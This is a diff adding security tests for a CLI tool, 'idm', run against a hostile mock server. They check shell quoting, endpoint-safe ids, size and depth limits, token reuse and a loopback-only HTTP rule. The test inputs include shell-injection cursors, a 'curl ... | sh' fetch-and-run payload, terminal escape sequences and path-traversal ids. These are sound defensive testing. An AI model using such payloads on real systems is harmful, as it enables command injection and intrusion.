@@ -1,0 +1,188 @@
+// Issue 11, items 2, 5, 9, 12, 13, 17 and 18: commands idm prints are shell-quoted; ids never
+// change the endpoint called; sizes, depths and cursors chosen by a server cannot exhaust idm; a
+// token that "expires at once" is reused for the run; only real loopback hosts get plain HTTP;
+// mapping attributes are checked; messages read right.
+import { execFileSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { hostileServer, idm, tempDir, tokenBody, unsafeCharacters, type Answer, type Seen } from './harness.js';
+
+let answer: (request: Seen) => Answer | undefined = () => undefined;
+let server: Awaited<ReturnType<typeof hostileServer>>;
+const config = tempDir();
+beforeAll(async () => {
+  server = await hostileServer((request) => answer(request));
+});
+beforeEach(() => {
+  server.seen.length = 0;
+  answer = () => undefined;
+});
+afterAll(async () => {
+  await server.close();
+  config.cleanup();
+});
+const env = (extra: Record<string, string> = {}) => server.env(config.dir, extra);
+const STREAM = { id: 'est_quoted0000000000000000', name: 'n', status: 'enabled', subscriptions: [], destination: { type: 'action', configuration: { action_id: 'a' } } };
+const isList = (request: Seen) => /^\/api\/v2\/event-streams(\?|$)/.test(request.url);
+
+describe('commands printed for the user to run are shell-quoted', () => {
+  it('the next-page hint quotes a cursor that holds shell syntax: a shell reads it back as one argument', async () => {
+    const work = tempDir();
+    const marker = join(work.dir, 'PWNED');
+    const cursor = `abc; touch ${marker} #$(touch ${marker})'"\``;
+    answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM], next: cursor } } : undefined);
+    try {
+      const result = await idm(['streams', 'list', '--take', '1', '--profile', 'my-profile', '--no-color'], { env: env({ IDM_PROFILE: '' }), tty: true });
+      expect(result.code).toBe(0);
+      const hint = /More streams: (.*)\n/.exec(result.stderr)?.[1];
+      expect(hint).toBeDefined();
+      // What a shell makes of the printed command: exactly the words idm meant, and nothing run.
+      const words = execFileSync('bash', ['-c', `eval "set -- $1"; printf '%s\\0' "$@"`, '_', hint!], { encoding: 'utf8' }).split('\0').slice(0, -1);
+      expect(words).toEqual(['idm', 'streams', 'list', '--from', cursor, '--take', '1', '--profile', 'my-profile']);
+      expect(existsSync(marker)).toBe(false);
+    } finally {
+      work.cleanup();
+    }
+  });
+
+  it('a cursor with control characters is a bad answer, never printed', async () => {
+    answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM], next: 'abc; curl -s http://127.0.0.1:47002/pwn | sh #\u001b[2K\rMore streams: none' } } : undefined);
+    const result = await idm(['streams', 'list', '--take', '1', '--no-color'], { env: env(), tty: true });
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain('a next cursor that holds control characters');
+    expect(result.stderr).not.toContain('curl');
+    expect(unsafeCharacters(result.stderr)).toEqual([]);
+  });
+});
+
+describe('an id never changes the endpoint called', () => {
+  it.each([
+    ['..', ['provisioning', 'create', '..', '--no-input']],
+    ['.', ['provisioning', 'create', '.', '--no-input']],
+    ['an empty id', ['provisioning', 'create', '', '--no-input']],
+    ['a slash', ['provisioning', 'create', 'con_a/../../x0000000', '--no-input']],
+    ['control characters', ['provisioning', 'create', 'con_abc\u001b[2Jdefghijklm', '--no-input']],
+    ['10,000 characters', ['provisioning', 'create', `con_${'a'.repeat(10_000)}`, '--no-input']],
+    ['a stream id of dots', ['streams', 'test', '..', '--event-type', 'user.created']],
+    ['an encoded dot segment', ['streams', 'test', '%2e%2e', '--event-type', 'user.created']],
+  ])('%s: usage error (exit 2), nothing sent', async (_name, args) => {
+    const result = await idm(args, { env: env() });
+    expect(result.code).toBe(2);
+    expect(server.seen).toEqual([]);
+    expect(result.stderr.length).toBeLessThan(2000);
+  });
+});
+
+describe('sizes, depths and cursors a server chooses', () => {
+  it('a page far larger than any real page is a bad answer (8 MB cap)', async () => {
+    const huge = JSON.stringify({ eventStreams: [{ id: 'est_big', name: 'x'.repeat(9 * 1024 * 1024) }] });
+    answer = (request) => (isList(request) ? { body: huge } : undefined);
+    const result = await idm(['streams', 'list'], { env: env(), tty: true });
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain('an answer larger than 8 MB');
+  });
+
+  it('more items on a page than were asked for is a bad answer (no spread of a server-sized list)', async () => {
+    const page = `{"eventStreams":[${Array(300_000).fill('{}').join(',')}]}`;
+    answer = (request) => (isList(request) ? { body: page } : undefined);
+    for (const args of [['streams', 'list', '--all', '--json'], ['streams', 'list']]) {
+      const result = await idm(args, { env: env(), tty: true });
+      expect(result.code).toBe(1);
+      expect(result.stderr).toMatch(/300000 items on a page of at most (100|50)/);
+    }
+  });
+
+  it('nesting 100,000 deep in a name crashes nothing: a bad answer', async () => {
+    const deep = `{"eventStreams":[{"id":"est_deep","name":${'['.repeat(100_000)}${']'.repeat(100_000)}}]}`;
+    answer = (request) => (isList(request) ? { body: deep } : undefined);
+    for (const args of [['streams', 'list'], ['streams', 'list', '--json'], ['streams', 'list', '--all', '--json']]) {
+      const result = await idm(args, { env: env(), tty: true });
+      expect(result.code).toBe(1);
+      expect(result.stderr).toContain('nested more than 64 levels deep');
+    }
+  });
+
+  it('--all against endless fresh cursors on empty pages stops with a clear error', async () => {
+    let n = 0;
+    answer = (request) => (isList(request) ? { body: { eventStreams: [], next: `fresh${n++}` } } : undefined);
+    const result = await idm(['streams', 'list', '--all', '--json'], { env: env() });
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain('an empty page that points to yet another page');
+    expect(server.api().length).toBe(1);
+  });
+
+  it('--all against a cursor seen before stops with a clear error', async () => {
+    answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM], next: request.url.includes('from=B') ? 'A' : 'B' } } : undefined);
+    const result = await idm(['streams', 'list', '--all', '--from', 'A'], { env: env() });
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain('returned a cursor twice');
+    expect(server.api().length).toBe(2);
+  });
+
+  it('--all --json writes one document equal to the merged pages, page by page', async () => {
+    answer = (request) => {
+      if (!isList(request)) return undefined;
+      const from = new URL(request.url, 'http://x').searchParams.get('from');
+      const page = Number(from ?? '0');
+      return { body: { eventStreams: [{ ...STREAM, id: `est_page${page}0000000000000000`.slice(0, 26) }], total: 3, ...(page < 2 ? { next: String(page + 1) } : {}) } };
+    };
+    const result = await idm(['streams', 'list', '--all', '--json'], { env: env() });
+    expect(result.code).toBe(0);
+    const merged = { eventStreams: [0, 1, 2].map((page) => ({ ...STREAM, id: `est_page${page}0000000000000000`.slice(0, 26) })), total: 3 };
+    expect(result.stdout).toBe(`${JSON.stringify(merged, null, 2)}\n`);
+  });
+});
+
+describe('tokens and hosts', () => {
+  it('a token answered with expires_in 0 and an expired exp serves the whole run: one token request for every page', async () => {
+    const expired = Buffer.from(JSON.stringify({ exp: 1_000_000, scope: 'read:event_streams' })).toString('base64url');
+    answer = (request) => {
+      if (request.url.startsWith('/oauth/token')) return { body: tokenBody({ access_token: `eyJhbGciOiJub25lIn0.${expired}.sig-expired-token`, expires_in: 0 }) };
+      if (!isList(request)) return undefined;
+      const page = Number(new URL(request.url, 'http://x').searchParams.get('from') ?? '0');
+      return { body: { eventStreams: [STREAM], ...(page < 4 ? { next: String(page + 1) } : {}) } };
+    };
+    const home = tempDir();
+    try {
+      const result = await idm(['streams', 'list', '--all'], { env: server.env(home.dir) });
+      expect(result.code).toBe(0);
+      expect(server.seen.filter((request) => request.url.startsWith('/oauth/token'))).toHaveLength(1);
+      expect(server.api()).toHaveLength(5);
+    } finally {
+      home.cleanup();
+    }
+  });
+
+  it.each(['http://evil.localhost:8080', 'http://localhost.evil.example:80', 'http://127.0.0.1.nip.io', 'http://10.0.0.1'])('plain HTTP to %s is refused (exit 2, nothing sent)', async (domain) => {
+    const result = await idm(['streams', 'list'], { env: env({ IDM_DOMAIN: domain }) });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('http:// is allowed only for loopback hosts');
+  });
+});
+
+describe('mapping attributes are checked like ids', () => {
+  it.each([
+    ['a zero-width look-alike', ['--mapping', 'email=a', '--mapping', 'e\u200bmail=b']],
+    ['a control character', ['--mapping', 'em\u001b[2Jail=a']],
+    ['an attribute of 10,000 characters', ['--mapping', `${'a'.repeat(10_000)}=b`]],
+  ])('%s: usage error, nothing sent', async (_name, flags) => {
+    const result = await idm(['provisioning', 'create', 'con_hostile000000001', ...flags], { env: env() });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toMatch(/control or invisible characters|longer than 256 characters/);
+    expect(server.seen).toEqual([]);
+    expect(unsafeCharacters(result.stderr)).toEqual([]);
+  });
+});
+
+describe('wording', () => {
+  it('a 429 without a message says so, not "undefined"', async () => {
+    answer = (request) => (isList(request) ? { status: 429, body: {}, headers: { 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 3600) } } : undefined);
+    const result = await idm(['streams', 'list', '--max-wait', '3'], { env: env() });
+    expect(result.code).toBe(5);
+    expect(result.stderr).not.toContain('undefined');
+    expect(result.stderr).toContain('(429 too_many_requests: no message)');
+    // The reset is an hour away; the message says the wait would exceed what is left, not that 3600 s is less than 3 s.
+    expect(result.stderr).toMatch(/waiting for it would take longer than what is left of --max-wait \(3 s of 3 s\)/);
+  });
+});
